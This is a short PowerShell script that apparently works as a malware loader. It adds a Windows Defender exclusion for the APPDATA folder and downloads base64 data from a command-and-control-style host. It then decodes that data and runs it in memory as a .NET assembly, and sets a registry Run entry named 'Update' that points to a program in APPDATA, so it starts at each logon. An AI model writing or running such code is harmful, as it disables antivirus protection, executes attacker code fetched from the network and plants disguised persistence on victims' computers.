param($p)
Add-MpPreference -ExclusionPath $env:APPDATA
$b = [Convert]::FromBase64String((irm https://c2.invalid/m))
[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)
New-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name Update -Value $env:APPDATA\u.exe
Write-Host 'installed'
